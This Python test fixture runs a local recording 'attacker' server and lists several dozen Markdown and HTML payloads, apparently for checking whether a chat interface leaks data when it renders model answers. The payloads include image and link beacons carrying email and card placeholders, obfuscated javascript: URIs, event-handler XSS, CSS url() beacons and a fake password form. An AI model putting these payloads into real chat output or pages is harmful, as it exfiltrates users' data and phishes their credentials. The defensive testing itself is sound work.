"""A server of someone else's: whatever a browser asks of it is written down."""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


@dataclass(slots=True)
class Attacker:
    """The running server and what arrived."""

    port: int
    asked: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self.port}"


@contextmanager
def run_attacker() -> Iterator[Attacker]:
    """The server on a free port."""

    class Handler(BaseHTTPRequestHandler):
        def answer(self) -> None:
            attacker.asked.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("access-control-allow-origin", "*")
            self.send_header("content-length", "0")
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    for method in ("GET", "POST", "HEAD", "OPTIONS"):
        setattr(Handler, f"do_{method}", Handler.answer)
    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        attacker = Attacker(port=server.server_address[1])
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        try:
            yield attacker
        finally:
            server.shutdown()
            thread.join()


ATTACKS = (
    "![picture one]({url}/a?e=[EMAIL_1])",
    '![picture two](<{url}/b c> "t")',
    "![picture three][ref]\n\n[ref]: {url}/ref?c=[CARD_1]",
    "[![nested]({url}/nested)]({url}/around)",
    "[click me]({url}/click?c=[CARD_1]&e=[EMAIL_1])",
    "[plain link]({url}/plain)",
    "[titled]({url}/titled \"a 'title'\")",
    "[script](javascript:document.title='taken')",
    "[entity](&#106;avascript:document.title='taken')",
    "[tab](java\tscript:document.title='taken')",
    "[data](data:text/html,<script>document.title='taken'</script>)",
    "[look-alike](јavascript:document.title='taken') [wide](ｊａｖａｓｃｒｉｐｔ：alert(1))",
    "[relative](/gradio_api/x) [no scheme](//127.0.0.1:{port}/noscheme?e=[EMAIL_1])",
    "<{url}/auto?e=[EMAIL_1]> and http://example.org@{host}/user?e=[EMAIL_1]",
    "<img src={url}/img onerror=\"document.title='taken'\">",
    '<img srcset="{url}/srcset 1x"> <picture><source srcset="{url}/source"></picture>',
    "<img\nsrc='{url}/lines'\n>",
    '<div style="position:fixed;inset:0;background:red url({url}/css)">cover</div>',
    "<style>body{{background:url({url}/style)}} #chatbot{{display:none}}</style>",
    '<form action="{url}/form"><input name=password><button>Sign in again</button></form>',
    '<iframe src="{url}/frame"></iframe><object data="{url}/object"></object><embed src="{url}/embed">',
    '<meta http-equiv="refresh" content="0;url={url}/meta"><base href="{url}/"><link rel=stylesheet href="{url}/link">',
    '<svg onload="document.title=\'taken\'"><image href="{url}/svg"/><use href="{url}/use#a"/></svg>',
    '<math><mtext><img src="{url}/math"></mtext></math>',
    '<video poster="{url}/poster" src="{url}/video"></video><audio src="{url}/audio"></audio>',
    '<table background="{url}/background"><tr><td>cell</td></tr></table>',
    "| a | b |\n|---|---|\n| ![cell]({url}/cell) | <img src={url}/cell2> |\n| `x|<img src={url}/cell3>` | y |",
    "$$\\href{{{url}/latex}}{{x}} \\url{{{url}/latex2}} \\includegraphics{{{url}/latex3}}$$",
    "$$\n```\n$$\n<img src={url}/fence>\n```",
    "**A [`x](y) ** <img src={url}/bold> `",
    "a ` b\nc ` <img src={url}/ticks> ` d",
    "see {url}/x`<img src={url}/glued>`",
    "~~a ` b~~ <img src={url}/struck> `",
    "- a\n  ~~~\n<img src={url}/list>\n  ~~~",
    "text\n10. foo\n    ~~~\n    <img src={url}/ten>\n    ~~~",
    '[a]: x "\n```\n"\n<img src={url}/title>\n```',
    "> ```\n<img src={url}/quote>\n```",
    '```mermaid\ngraph LR\n A["<img src=\'{url}/mermaid\'>"] --> B\n click B "{url}/click2"\n```',
    '~~~mermaid\ngraph LR\n A@{{ img: "{url}/mermaid2" }}\n~~~',
    '%%%LATEX_BLOCK_0%%% <img src="%%%LATEX_BLOCK_0%%%"> `<img src={url}/code>',
    "<think><img src={url}/think></think>",
    "&lt;img src={url}/entity&gt; &#60;img src={url}/entity2&#62;",
)


def attacks_on(attacker: Attacker) -> str:
    """One answer with every attack, each a paragraph that ends in words of its own."""
    texts = [text.format(url=attacker.url, port=attacker.port, host=attacker.host) for text in ATTACKS]
    return "\n\n".join(f"Try {number}.\n\n{text}" for number, text in enumerate(texts)) + "\n\nEverything was tried."
